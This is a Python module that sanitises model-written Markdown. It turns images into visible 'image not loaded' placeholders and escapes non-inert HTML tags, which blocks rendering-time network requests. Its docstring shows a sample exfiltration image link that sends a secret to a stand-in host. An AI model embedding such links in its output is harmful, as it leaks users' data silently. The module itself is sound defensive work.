"""Model-written Markdown made safe to render: nothing in it loads from the network by itself.

A rendered image fetches its URL as soon as it is shown, so an answer could send data anywhere
(``![x](http://host/p.png?d=<secret>)``) without a click. Every image (inline, reference or
shortcut form) becomes a visible ``[image not loaded: URL]`` with the URL as a plain link, and
every raw HTML tag that is not a known inert one (``<b>``, ``<a href>``, tables, ...) is escaped,
which covers ``<img>``, ``<iframe>``, ``<video poster>``, ``<link>``, ``srcset`` and CSS ``url()``.

The rewrite does not trust any one Markdown parser: it applies inside code spans and blocks too,
so a code sample with an image or HTML tag in it may show ``&lt;`` or the placeholder there.
Inline ``data:image`` PNG, JPEG, GIF and WebP images are kept: they make no request.
"""

from __future__ import annotations

import re

_INERT_TAGS = frozenset(
    [
        "a",
        "abbr",
        "b",
        "blockquote",
        "br",
        "code",
        "dd",
        "del",
        "details",
        "div",
        "dl",
        "dt",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "ins",
        "kbd",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "q",
        "s",
        "samp",
        "small",
        "span",
        "strong",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "tr",
        "u",
        "ul",
        "var",
    ]
)
_INERT_ATTRS = {"a": {"href", "title"}, "ol": {"start"}, "details": {"open"}, "td": {"align", "colspan", "rowspan"}}
_INERT_ATTRS["th"] = _INERT_ATTRS["td"]
_ATTR = r"""\s+([A-Za-z_:][A-Za-z0-9_.:-]*)(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?"""
_TAG = re.compile(rf"<([A-Za-z][A-Za-z0-9-]*)((?:{_ATTR})*)\s*/?>")
_ATTR_NAMES = re.compile(_ATTR)
_AUTOLINK = re.compile(
    r"<(?:[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>\x00-\x1f]*|[\w.!#$%&'*+/=?^`{|}~-]+@[\w-]+(?:\.[\w-]+)*)>"
)
_DEFINITION = re.compile(r"^[ \t>*+-]*(?:\d+[.)][ \t]*)?\[((?:[^\[\]\\]|\\.)+)\]:[ \t]*\n?[ \t]*(<[^<>\n]*>|\S+)", re.M)
_DATA_IMAGE = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*")
_PUNCTUATION = re.compile(r"""([!"#$%&'()*+,\-./:;<=>?@\[\\\]^_`{|}~])""")


def sanitize_markdown(text: str) -> str:
    """``text`` with every auto-loading image or HTML element replaced by visible, inert text."""
    text = _escape_tags(text)
    definitions = {_label(m.group(1)): m.group(2).strip("<>") for m in _DEFINITION.finditer(text)}
    pairs = {**_pairs(text, "[", "]"), **_pairs(text, "(", ")")}
    out, i = [], 0
    while (start := text.find("![", i)) >= 0:
        out.append(_no_image_start(text[i:start]))
        replacement, i = _image(text, start, definitions, pairs)
        out.append(replacement)
    out.append(_no_image_start(text[i:]))
    return "".join(out)


def _no_image_start(text: str) -> str:
    """A last guard for text between images: nothing in it may start one."""
    while "![" in text:
        text = text.replace("![", "!\\[")
    return text


def _escape_tags(text: str) -> str:
    def escape(match: re.Match[str]) -> str:
        if _AUTOLINK.match(text, match.start()):
            return "<"
        tag = _TAG.match(text, match.start())
        return "<" if tag is not None and _inert(tag) else "&lt;"

    return re.sub(r"<(?=[A-Za-z])", escape, text)


def _inert(tag: re.Match[str]) -> bool:
    name = tag.group(1).lower()
    if name not in _INERT_TAGS:
        return False
    allowed = _INERT_ATTRS.get(name, set()) | {"title"}
    return all(m.group(1).lower() in allowed for m in _ATTR_NAMES.finditer(tag.group(2)))


def _label(raw: str) -> str:
    return " ".join(raw.split()).casefold()


def _pairs(text: str, open_: str, close: str) -> dict[int, int]:
    """Each bracket's matching closer, in one pass (backslash escapes honoured): linear on any input."""
    pairs, stack = {}, []
    i = 0
    while i < len(text):
        char = text[i]
        if char == "\\":
            i += 2
            continue
        if char == open_:
            stack.append(i)
        elif char == close and stack:
            pairs[stack.pop()] = i
        i += 1
    return pairs


def _image(text: str, start: int, definitions: dict[str, str], pairs: dict[int, int]) -> tuple[str, int]:
    """The replacement for the image starting at ``start`` and where scanning resumes."""
    alt_end = pairs.get(start + 1, -1)
    if alt_end < 0:
        return "!\\[", start + 2
    alt = text[start + 2 : alt_end]
    after = alt_end + 1
    if text.startswith("(", after):
        close = pairs.get(after, -1)
        if close >= 0:
            inner = text[after + 1 : close].strip()
            if _DATA_IMAGE.fullmatch(inner) and not re.search(r"[\[\]<>!]", alt):
                return text[start : close + 1], close + 1
            return _placeholder(inner.split()[0].strip("<>") if inner else ""), close + 1
    if text.startswith("[", after):
        close = pairs.get(after, -1)
        if close >= 0:
            label = text[after + 1 : close] or alt
            return _placeholder(definitions.get(_label(label), ""), alt), close + 1
    return _placeholder(definitions.get(_label(alt), ""), alt), after


def _placeholder(url: str, alt: str = "") -> str:
    """Visible, inert text: the URL as a plain link when it is one, else escaped text."""
    if url and _AUTOLINK.fullmatch(f"<{url}>") and ":" in url:
        return f"\\[image not loaded: <{url}>\\]"
    shown = _PUNCTUATION.sub(r"\\\1", url or f"no address for {alt!r}")
    return f"\\[image not loaded: {shown}\\]"
